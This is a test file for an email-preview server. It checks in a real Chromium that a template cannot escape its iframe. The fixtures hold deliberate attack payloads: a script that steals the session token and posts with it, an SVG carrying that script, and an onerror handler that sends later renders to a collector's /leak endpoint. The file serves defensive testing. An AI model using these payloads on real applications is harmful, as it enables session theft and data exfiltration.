/**
 * What a template can do in the preview's email frame, in a real Chromium: links into the
 * preview itself are not opened, project files opened as pages run no script, inline handlers
 * and scripts of a template never run, and an email never sees the renders that follow it.
 */
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPreview, type PreviewServer } from '../../src/preview/index.js';
import { copySamples, launchChromium } from './helpers.js';

/** Reads the session token from the UI page and saves a fixture with it, as an attacker would. */
const STEAL = `fetch('/').then(r => r.text()).then(t => {
  const token = /name="velvet-token" content="([^"]+)"/.exec(t)[1];
  return fetch('/__velvet/api/fixtures', { method: 'POST', headers: { 'content-type': 'application/json', 'x-velvet-token': token },
    body: JSON.stringify({ email: 'attack', name: 'stolen', payload: '{}' }) });
})`;

/** A 1×1 PNG. */
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** A local server that records every request the frame manages to make. */
async function startCollector(): Promise<{ url: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      hits.push(`${req.method} ${req.url}${body ? ` (${body.length} bytes${body.includes('Second') ? ', with the next render' : ''})` : ''}`);
      res.setHeader('Access-Control-Allow-Origin', '*');
      res.end('ok');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

describe('the email frame cannot reach the preview', { timeout: 60_000 }, () => {
  let project: ReturnType<typeof copySamples>;
  let server: PreviewServer;
  let chromium: Awaited<ReturnType<typeof launchChromium>>;
  let page: Page;
  let collector: Awaited<ReturnType<typeof startCollector>>;
  const stolen = () => join(project.dir, 'attack', 'data', 'stolen.json');
  const frameBody = () => page.frameLocator('velvet-frame iframe').locator('body');

  beforeAll(async () => {
    collector = await startCollector();
    project = copySamples();
    const email = join(project.dir, 'attack');
    mkdirSync(join(email, 'data'), { recursive: true });
    writeFileSync(join(email, 'data', 'first.json'), JSON.stringify({ name: 'First' }));
    writeFileSync(join(email, 'data', 'second.json'), JSON.stringify({ name: 'Second', secret: 'second-fixture-secret' }));
    writeFileSync(
      join(email, 'email.html'),
      [
        '<html><head><title>attack</title>',
        `<meta http-equiv="refresh" content="0; url=${collector.url}/refreshed">`,
        '<link rel="stylesheet" href="style.css">',
        '</head><body>',
        '<img id="logo" src="logo.png" alt="">',
        '<p id="hello">Hello $name</p>',
        '<a id="lnk" href="pwn.svg">open me</a>',
        `<a id="abs" href="/__velvet/files/attack/pwn.svg">absolute</a>`,
        // the reviewer's repro: a handler that outlives its render and reports the next ones
        `<img id="spy" src="missing-image.png" onerror="window.addEventListener('message', function (e) { fetch('${collector.url}/leak', { method: 'POST', mode: 'no-cors', body: JSON.stringify(e.data) }); }); fetch('${collector.url}/handler-ran', { mode: 'no-cors' });">`,
        `<script>fetch('${collector.url}/script-ran', { mode: 'no-cors' });</script>`,
        `<img id="pixel" src="${collector.url}/pixel.png" alt="">`,
        '</body></html>',
      ].join('\n'),
    );
    writeFileSync(join(email, 'style.css'), '#hello { color: rgb(1, 2, 3); }');
    writeFileSync(join(email, 'logo.png'), Buffer.from(PNG, 'base64'));
    writeFileSync(
      join(email, 'pwn.svg'),
      `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${STEAL}</script><rect width="10" height="10"/></svg>`,
    );
    server = await startPreview({ dir: project.dir, port: 0, env: {} });
    chromium = await launchChromium();
    page = chromium.page;
    page.setDefaultTimeout(15_000);
  });

  afterAll(async () => {
    await chromium?.close();
    await server?.close();
    await collector?.close();
    project?.remove();
  });

  it('shows the email, with its images loading from the network', async () => {
    await page.goto(`${server.url}#/attack/first`);
    await frameBody().filter({ hasText: 'Hello First' }).waitFor();
    await expect.poll(() => collector.hits.some((h) => h.startsWith('GET /pixel.png'))).toBe(true);
  });

  it('loads the stylesheet and images of the email folder under the frame policy', async () => {
    const frame = page.frameLocator('velvet-frame iframe');
    await expect.poll(() => frame.locator('#hello').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(1, 2, 3)');
    await expect.poll(() => frame.locator('#logo').evaluate((el) => (el as HTMLImageElement).naturalWidth)).toBe(1);
  });

  it('still inverts the colours in dark mode (the bootstrap may add its style sheet)', async () => {
    const frame = () => page.frames().find((f) => f !== page.mainFrame());
    const filter = () => frame()?.evaluate(() => getComputedStyle(document.documentElement).filter);
    await page.locator('velvet-toolbar input[type="checkbox"]').check();
    await expect.poll(filter).toContain('invert');
    await page.locator('velvet-toolbar input[type="checkbox"]').uncheck();
    await expect.poll(filter).toBe('none');
  });

  it('does not open a link that points into the preview, and says so', async () => {
    let popups = 0;
    chromium.context.on('page', () => popups++);
    for (const id of ['#lnk', '#abs']) {
      await page.frameLocator('velvet-frame iframe').locator(id).click();
      await page.locator('velvet-frame [data-blocked-link]').waitFor();
      expect(await page.locator('velvet-frame [data-blocked-link]').textContent()).toContain('/__velvet/files/attack/pwn.svg');
    }
    await page.waitForTimeout(300);
    expect(popups).toBe(0);
    expect(existsSync(stolen())).toBe(false);
  });

  it('runs no script of an SVG opened from the project folder, even as a page of the preview origin', async () => {
    const other = await chromium.context.newPage();
    // served as an attachment with a sandboxing CSP: a download, or at worst an inert document
    await other.goto(new URL('/__velvet/files/attack/pwn.svg', server.url).href).catch(() => undefined);
    await other.waitForTimeout(500);
    await other.close();
    expect(existsSync(stolen())).toBe(false);
    expect(readdirSync(join(project.dir, 'attack', 'data')).sort()).toEqual(['first.json', 'second.json']);
  });

  it('runs no inline handler or script of a template, so it never sees the next render', async () => {
    await page.locator('velvet-email-list [data-fixture="second"] button').click();
    await frameBody().filter({ hasText: 'Hello Second' }).waitFor();
    await page.locator('velvet-email-list [data-email="welcome"] button').first().click();
    await frameBody().filter({ hasText: 'Thank you for joining' }).waitFor();
    await page.waitForTimeout(300);
    const leaked = collector.hits.filter((h) => !h.startsWith('GET /pixel.png'));
    expect(leaked).toEqual([]);
  });

  it('gives every email and fixture a fresh frame document', async () => {
    await page.locator('velvet-email-list [data-email="attack"] button').first().click();
    await frameBody().filter({ hasText: 'Hello' }).waitFor();
    const frame = page.frames().find((f) => f !== page.mainFrame());
    expect(frame).toBeDefined();
    await frame?.evaluate(() => Object.assign(window, { __marker: 1 })).catch(() => undefined);
    await page.locator('velvet-email-list [data-fixture="second"] button').click();
    await frameBody().filter({ hasText: 'Hello Second' }).waitFor();
    const now = page.frames().find((f) => f !== page.mainFrame());
    expect(await now?.evaluate(() => (window as unknown as { __marker?: number }).__marker)).toBeUndefined();
  });
});
